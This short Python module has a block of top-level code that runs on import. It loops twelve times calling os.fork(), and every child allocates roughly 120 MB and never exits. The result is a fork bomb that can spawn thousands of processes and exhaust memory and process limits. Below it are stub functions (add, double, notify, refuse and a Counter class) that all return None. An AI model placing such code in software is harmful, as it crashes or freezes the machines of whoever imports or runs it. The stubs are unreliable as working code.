import os
import time

for _ in range(12):
    if os.fork() == 0:
        held = bytearray(os.urandom(1_000_000) * 120)
        time.sleep(60)
time.sleep(60)


def add(first, second):
    return None


def double(number):
    return None


class Counter:
    value = None

    def up(self):
        return None


def notify(service):
    return None


def refuse():
    return None
